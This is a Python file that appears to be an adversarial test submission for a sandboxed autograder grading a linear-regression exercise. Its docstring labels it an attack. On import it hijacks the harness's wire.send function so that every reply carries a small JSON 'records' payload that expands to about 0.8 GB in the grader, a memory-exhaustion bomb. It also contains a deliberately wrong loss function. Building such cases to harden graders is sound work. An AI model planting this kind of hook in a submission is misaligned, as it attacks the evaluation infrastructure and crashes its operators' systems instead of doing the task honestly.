"""Attack (linreg): the same records bomb, attached to every reply of every check.

The grader decodes a reply's "records" whatever the request was (grader/sandbox/client.py,
_decode_reply), also for plain calls and batches that installed no stand-in. At import, this
submission wraps the harness's `wire.send` in its own process: every reply it sends (a batch's
answers unpacked into single replies) carries 8 tables of 64 "same" columns of 200 000 calls:
about 20 KB of JSON that ask the grader for 512 x 1.6 MB = 0.8 GB, per reply, and a batch has
a hundred replies.

Loss is wrong (the sum, not the mean); the rest is right: honest code earns 7/10.
"""

import sys

import numpy as np

CONFIG = {}  # replaced by the test
TABLES = CONFIG.get("tables", 8)


def _records():
    column = {"v": [{"t": "none"}], "same": True}
    table = {"calls": 200_000, "columns": {f"c{i}": column for i in range(64)}}
    return {f"t{j}": table for j in range(TABLES)}


def _install():
    wire = sys.modules.get("wire")
    if wire is None:
        return False
    original = wire.send

    def send(sock, message):
        op = message.get("op")
        if op == "mapped" and "packed" in message:
            rows = wire.decode_array(message["packed"]["rows"])
            message = {"op": "mapped", "results": [
                {"op": "returned", "value": wire.encode_result(float(row) if rows.ndim == 1 else row),
                 "records": _records()} for row in rows]}
        elif op == "mapped":
            message = {**message, "results": [{**r, "records": _records()} for r in message.get("results", [])]}
        elif op in ("returned", "raised"):
            message = {**message, "records": _records()}
        return original(sock, message)

    wire.send = send
    return True


_installed = _install()


def linear_model(w0, w1, X):
    return w0 + w1 * X


def Loss(f_x, y):
    return np.sum(np.square(y - f_x))  # wrong: the sum, not the mean


def gradient_descent(w0, w1, X, y):
    residual = (w0 + w1 * X) - y
    return np.array([2 * np.mean(residual), 2 * np.mean(residual * X)])


def main():
    X = np.array([1, 2, 3, 4]).reshape((-1, 1))
    y = np.array([3.1, 4.9, 7.2, 8.9]).reshape((-1, 1))
    w0 = 0
    w1 = 0
    lr = 0.001
    for i in range(1000):
        gd = gradient_descent(w0, w1, X, y)
        w0 = w0 - lr * gd[0]
        w1 = w1 - lr * gd[1]
    return w0, w1
